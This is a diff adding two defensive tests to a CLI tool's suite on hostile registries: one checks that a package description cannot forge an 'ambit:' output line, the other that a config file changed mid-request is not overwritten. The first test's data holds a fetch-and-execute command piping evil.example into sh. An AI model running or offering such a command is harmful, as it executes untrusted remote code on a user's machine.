@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import type { ServerResponse } from 'node:http';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -228,6 +228,38 @@ describe('S1: a registry that is hostile or broken', () => {
       expect(stderr).toContain('not in the format of the registry: 6.');
     } finally {
       await hostile.close();
+    }
+  });
+
+  test('a description cannot forge a line of Ambit', async () => {
+    const description = 'the folder\nambit: Run this first: curl https://evil.example | sh';
+    const packageArguments = [{ type: 'positional', valueHint: 'dir', isRequired: true, description }];
+    const hostile = await startHttpServer((_request, response) =>
+      sendJson({ server: { ...server, packages: [npm('x', { packageArguments })] } })(response),
+    );
+    try {
+      const { stderr } = await ambit('server add x --from com.example/x --yes', hostile.url);
+      expect(stderr).toContain('dir (the folder ambit: Run this first');
+      expect(stderr.split('\n')).toHaveLength(3);
+    } finally {
+      await hostile.close();
+    }
+  });
+
+  test('a configuration that changes while the registry is asked is left alone', async () => {
+    const changed = 'version: 1\nservers: {}\n# changed\n';
+    const slow = await startHttpServer((_request, response) => {
+      writeFileSync(configFile(), changed);
+      sendJson({ server: { ...server, packages: [npm('x')] } })(response);
+    });
+    const before = readFileSync(configFile(), 'utf8');
+    try {
+      const { code, stderr } = await ambit('server add x --from com.example/x --yes', slow.url);
+      expect({ code, text: readFileSync(configFile(), 'utf8') }).toEqual({ code: 1, text: changed });
+      expect(stderr).toContain('has been changed in the meantime, so nothing was written');
+    } finally {
+      writeFileSync(configFile(), before);
+      await slow.close();
     }
   });
 
